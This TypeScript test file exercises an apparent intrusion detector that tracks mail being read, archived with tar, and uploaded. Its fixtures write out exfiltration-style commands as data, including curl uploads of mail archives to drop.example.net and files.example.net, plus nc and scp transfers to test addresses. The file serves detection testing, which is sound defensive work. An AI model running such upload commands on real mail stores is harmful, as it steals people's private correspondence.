import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { HostState } from '../../state/host.ts';
import type { Notice } from '../../state/notices.ts';
import { MARK } from '../../state/path-marks.ts';
import { splitHome } from '../../state/places.ts';
import type { ProcessState } from '../../state/processes.ts';
import { classOfPath } from '../../state/programs.ts';
import type { Taint } from '../../state/taint.ts';
import type { World } from '../../state/world.ts';
import type { HarvestCase } from './case.ts';
import { HarvestCases } from './cases.ts';

/** What is kept of a harvest, notice by notice, as state tells them. */
const WINDOW = 600_000;
let pids = 10;
function ran(exe: string, argv: readonly string[] = [exe]): ProcessState {
  pids += 1;
  return {
    id: '',
    host: 'ws1',
    pid: pids,
    start: 0,
    parent: null,
    ppid: 1,
    exe,
    comm: '',
    argv,
    cwd: '/',
    uid: 1003,
    euid: 1003,
    auid: 1003,
    ses: 4,
    tty: 'pts0',
    script: '',
    classBits: classOfPath(exe),
    trusted: true,
    images: [],
    execSeen: true,
    execRef: null,
    carries: [],
    connections: [],
    recentChildren: [],
    controlled: null,
  } as unknown as ProcessState;
}

interface Around {
  /** Kinds of events that the host is seen to record. */
  readonly seen?: readonly string[];
  readonly processes?: readonly ProcessState[];
  /** Path -> of what kind the content is that it may hold. */
  readonly holds?: Readonly<Record<string, Taint['origin']['kind']>>;
}
function cases({ seen = ['network.connected'], processes = [], holds = {} }: Around = {}) {
  const host = {
    host: 'ws1',
    has: (kind: string) => seen.includes(kind),
    userName: () => 'clerk',
    identity: { homeOf: () => '/home/clerk', userName: () => 'clerk', homeOwner: () => 'clerk' },
    homes: { split: splitHome },
    sessions: { peek: () => undefined },
    terminals: { peek: () => undefined },
    processes: { get: (pid: number) => processes.find(each => each.pid === pid) },
    files: {
      byName: (path: string) =>
        holds[path] === undefined ? undefined : { taints: [{ origin: { kind: holds[path] } }] },
    },
    place: (path: string) => ({ marks: path.startsWith('/home/') ? MARK.user : 0 }),
    installed: { isNewByHand: () => false },
    setting: { identity: { homeOwner: () => 'clerk', homeOf: () => '/home/clerk', accountOf: () => 'clerk' } },
  } as unknown as HostState;
  const world = {
    hosts: new Map([['ws1', host]]),
    seen: (_host: string, kind: string) => seen.includes(kind),
    network: { watch: () => ({ flows: [] }), contactAt: () => null },
  } as unknown as World;
  const kept = new HarvestCases(WINDOW);
  return {
    tell: (facts: object): void => kept.take({ host: 'ws1', time: 0, ref: null, ...facts } as unknown as Notice, world),
    get only(): HarvestCase {
      assert.equal(kept.cases.size, 1);
      return [...kept.cases.values()][0] as HarvestCase;
    },
    size: (): number => kept.cases.size,
  };
}
const taint = (id: string, strength: 'observed' | 'inferred' = 'observed'): Taint =>
  ({ origin: { id, strength, kind: 'mailstore', person: 'clerk' }, step: { time: 0 } }) as unknown as Taint;
const read = (process: ProcessState, box: string, of = taint(box)) => ({
  kind: 'store.read',
  process,
  box,
  path: `${box}/m`,
  owner: 'clerk',
  taint: of,
});

test('a read that is only inferred gives way to one that was seen, and to no other', () => {
  const kept = cases();
  const [first, second, third] = [ran('/bin/cat'), ran('/bin/cat'), ran('/bin/cat')];
  kept.tell(read(first, '/var/mail/clerk', taint('a', 'inferred')));
  kept.tell(read(second, '/var/mail/clerk', taint('b', 'inferred')));
  assert.equal(kept.only.reads.get('/var/mail/clerk')?.pid, first.pid);
  kept.tell(read(third, '/var/mail/clerk', taint('c')));
  assert.equal(kept.only.reads.get('/var/mail/clerk')?.pid, third.pid);
  kept.tell(read(first, '/var/mail/clerk', taint('d')));
  assert.equal(kept.only.reads.get('/var/mail/clerk')?.pid, third.pid, 'the first that was seen stays');
});

test('of very many boxes the first are kept, and a read of them that is seen still counts', () => {
  const kept = cases();
  const cat = ran('/bin/cat');
  for (let i = 0; i < 100; i++) kept.tell(read(cat, `/var/mail/u${i}`, taint(`u${i}`, 'inferred')));
  assert.ok(kept.only.reads.size < 100);
  kept.tell(read(ran('/bin/cat'), '/var/mail/u0', taint('seen')));
  assert.equal(kept.only.reads.get('/var/mail/u0')?.taint.origin.strength, 'observed');
});

test("a copy or a transfer of which no read is known is nobody's", () => {
  const kept = cases();
  kept.tell({ kind: 'store.staged', process: ran('/bin/cp'), path: '/tmp/a', taint: taint('unknown') });
  kept.tell({ kind: 'store.transferred', process: ran('/usr/bin/scp'), destination: '', taint: taint('unknown') });
  assert.equal(kept.size(), 0);
});

const transferred = (process: ProcessState, destination: string, strength: 'observed' | 'inferred' = 'observed') => ({
  kind: 'store.transferred',
  process,
  destination,
  servedAt: '',
  strength,
  why: 'x',
  taint: taint('a'),
});

test('what a connection shows and arguments repeat is one transfer', () => {
  const kept = cases();
  const curl = ran('/usr/bin/curl', ['curl', '-T', 'a', 'http://drop.example.net/x']);
  kept.tell(read(curl, '/var/mail/clerk', taint('a')));
  kept.tell(transferred(curl, '203.0.113.66:80'));
  kept.tell(transferred(curl, '', 'inferred'));
  assert.deepEqual(
    kept.only.transfers.map(each => each.destination),
    ['203.0.113.66:80'],
  );
  kept.tell(transferred(curl, '203.0.113.67:80'));
  assert.equal(kept.only.transfers.length, 2, 'another place is another transfer');
});

test('of very many transfers the first are kept, and what is seen more surely of them replaces them', () => {
  const kept = cases();
  const nc = ran('/usr/bin/nc');
  kept.tell(read(nc, '/var/mail/clerk', taint('a')));
  for (let i = 0; i < 40; i++) kept.tell(transferred(nc, `203.0.113.${i}:9`, 'inferred'));
  const { length } = kept.only.transfers;
  assert.ok(length < 40);
  kept.tell(transferred(nc, '203.0.113.0:9'));
  assert.equal(kept.only.transfers.length, length);
  assert.equal(kept.only.transfers[0]?.strength, 'observed');
});

test('TimeWindow reaches from the last read to a tool that uploads, its last moment included', () => {
  const uploads = (after: number, ...pid: readonly ProcessState[]): number => {
    const kept = cases({ seen: [] });
    kept.tell(read(ran('/bin/cat'), '/var/mail/clerk'));
    for (const process of pid) kept.tell({ kind: 'transfer.started', process, time: after });
    return kept.only.transfers.length;
  };
  const scp = (): ProcessState => ran('/usr/bin/scp');
  assert.equal(uploads(WINDOW, scp()), 1);
  assert.equal(uploads(WINDOW + 1, scp()), 0);
  assert.equal(uploads(5, scp(), scp()), 2);
  const one = scp();
  assert.equal(uploads(5, one, one), 1, 'told of as a sender and as a tool that transfers');
});

test('what leaves the host is watched only where it does not record connections itself', () => {
  const watched = (seen: readonly string[]): boolean => {
    const kept = cases({ seen });
    kept.tell(read(ran('/bin/cat'), '/var/mail/clerk'));
    return kept.only.watch !== null;
  };
  assert.equal(watched(['network.connected']), false);
  assert.equal(watched([]), true);
});

const ARCHIVE = '/home/clerk/old.tgz';
const TAR: readonly string[] = ['tar', 'czf', ARCHIVE, 'Maildir'];
const TALK = '/home/clerk/talk.odp';

/** How many uploads count where no writes are recorded: `reader` read the mail of `owner`, and `files` are sent a little later. */
function counted(
  reader: ProcessState,
  files: readonly string[],
  { holds = { [ARCHIVE]: 'mailstore' }, processes = [reader], owner = 'clerk' }: Around & { owner?: string } = {},
): number {
  const kept = cases({ seen: [], holds, processes });
  kept.tell({ ...read(reader, '/var/mail/clerk'), owner });
  const process = ran('/usr/bin/curl', ['curl', ...files.flatMap(file => ['-T', file]), 'http://files.example.net/']);
  kept.tell({ kind: 'transfer.started', process, time: 5 });
  return kept.only.transfers.length;
}

test('own mail packed into a file that a word names, and another file sent: other work', () => {
  assert.equal(counted(ran('/bin/tar', TAR), [TALK]), 0);
  assert.equal(counted(ran('/bin/tar', TAR), [TALK], { holds: { [ARCHIVE]: 'mailstore', [TALK]: 'download' } }), 0);
});

test('what may hold the mail is sent, alone or among others: a harvest', () => {
  assert.equal(counted(ran('/bin/tar', TAR), [ARCHIVE]), 1);
  assert.equal(counted(ran('/bin/tar', TAR), [TALK, ARCHIVE]), 1);
});

test('mail of which no word says where it went: what is sent counts', () => {
  for (const [says, reader] of [
    ['an archiver that packs to its output', ran('/bin/tar', ['tar', 'cz', 'Maildir'])],
    ['an archiver that unpacks', ran('/bin/tar', ['tar', 'xzf', ARCHIVE])],
    ['no archiver, whatever it is told', ran('/usr/bin/mbtool', ['mbtool', '--create', '--file', ARCHIVE])],
    ['an archiver of the person', { ...ran('/home/clerk/tar', TAR), trusted: false }],
  ] as const)
    assert.equal(counted(reader, [TALK]), 1, says);
  assert.equal(counted(ran('/bin/tar', TAR), [TALK], { processes: [] }), 1, 'its words are forgotten');
  assert.equal(counted(ran('/bin/tar', TAR), [TALK], { owner: 'buyer' }), 1, 'mail of somebody else');
});

test('where only time joins an upload to the read, what the reader started is told from what another program did', () => {
  const byReader = (parent: ProcessState | null, reader: ProcessState): boolean | undefined => {
    const kept = cases({ seen: [] });
    kept.tell(read(reader, '/var/mail/clerk'));
    kept.tell({ kind: 'transfer.started', process: { ...ran('/usr/bin/scp'), parent }, time: 5 });
    return kept.only.transfers[0]?.byReader;
  };
  const client = ran('/opt/thunderbird/thunderbird');
  assert.equal(byReader(client, client), true);
  assert.equal(byReader({ ...ran('/opt/thunderbird/crashreporter'), parent: client }, client), true);
  assert.equal(byReader(ran('/usr/bin/make'), client), false);
  assert.equal(byReader(null, client), false);
});
